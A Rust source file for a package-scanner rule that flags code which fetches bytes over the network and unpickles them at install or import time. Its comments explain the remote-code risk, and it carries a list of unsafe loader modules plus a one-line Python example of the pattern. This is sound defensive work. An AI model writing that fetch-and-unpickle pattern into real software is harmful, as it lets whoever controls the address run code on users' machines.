//! # It loads objects from the network
//!
//! ## What it finds
//! At install or import time, a function that fetches something and hands bytes to `pickle`, `dill`, `cloudpickle`, `joblib`
//! or another loader of objects that runs what the bytes tell it to.
//!
//! ## Why it matters
//! A pickle is a program: `__reduce__` calls anything. Whoever controls the address runs code in every process that imports the
//! package, without a word of it in the release. Models with such pickles were uploaded to Hugging Face in 2024 and 2025
//! (`nullifAI`).
//!
//! ## Example
//! ```python
//! model = pickle.loads(urlopen("https://files.example.invalid/model.pkl").read())
//! ```
//!
//! ## What to do
//! Do not install; load data from formats that hold data (safetensors, JSON, Arrow).
//!
//! ## When it is wrong
//! Data sets that are fetched when they are asked for are not reported: they are not loaded at import.
use foretaste_engine::prelude::*;

use crate::code;

declare_rule! {
    FetchedPickle,
    id: "fetched-pickle",
    title: "loads objects from the network",
    group: Chain,
    severity: High,
    confidence: High,
    needs: [Code],
    tags: ["T1059.006", "T1105"],
    since: "0.1.0",
}

/// Modules whose loaders run what they read.
const LOADERS: &[&str] = &[
    "pickle",
    "cPickle",
    "_pickle",
    "dill",
    "cloudpickle",
    "joblib",
    "shelve",
    "jsonpickle",
    "pandas.read_pickle",
    "torch.load",
    "yaml.UnsafeLoader",
    "yaml.unsafe_load",
    "ruamel.yaml.unsafe_load",
];

impl FileRule for FetchedPickle {
    fn judge(&self, file: &FileView<'_>, _scene: &Scene<'_>) -> Vec<Finding> {
        let loads = |u: &&Use| {
            u.capability == Capability::DecodeObject
                && LOADERS.iter().any(|module| {
                    let rest = u.api.strip_prefix(module);
                    rest.is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
                })
        };
        let finding = file.facts.uses.iter().filter(loads).find_map(|loads| {
            let context = file.context(loads.function);
            if context > ExecutionContext::Import {
                return None;
            }
            let fetches = file.facts.uses.iter().find(|u| {
                u.function == loads.function && code::talks(u) && u.capability.is_network_source()
            })?;
            Some(
                self.finding(format!(
                    "loads objects that it fetches {}",
                    context.phrase()
                ))
                .context(context)
                .evidence(file.use_evidence(fetches, EvidenceRole::Source, &*fetches.api))
                .evidence(file.use_evidence(
                    loads,
                    EvidenceRole::Sink,
                    &*loads.api,
                )),
            )
        });
        finding.into_iter().collect()
    }
}
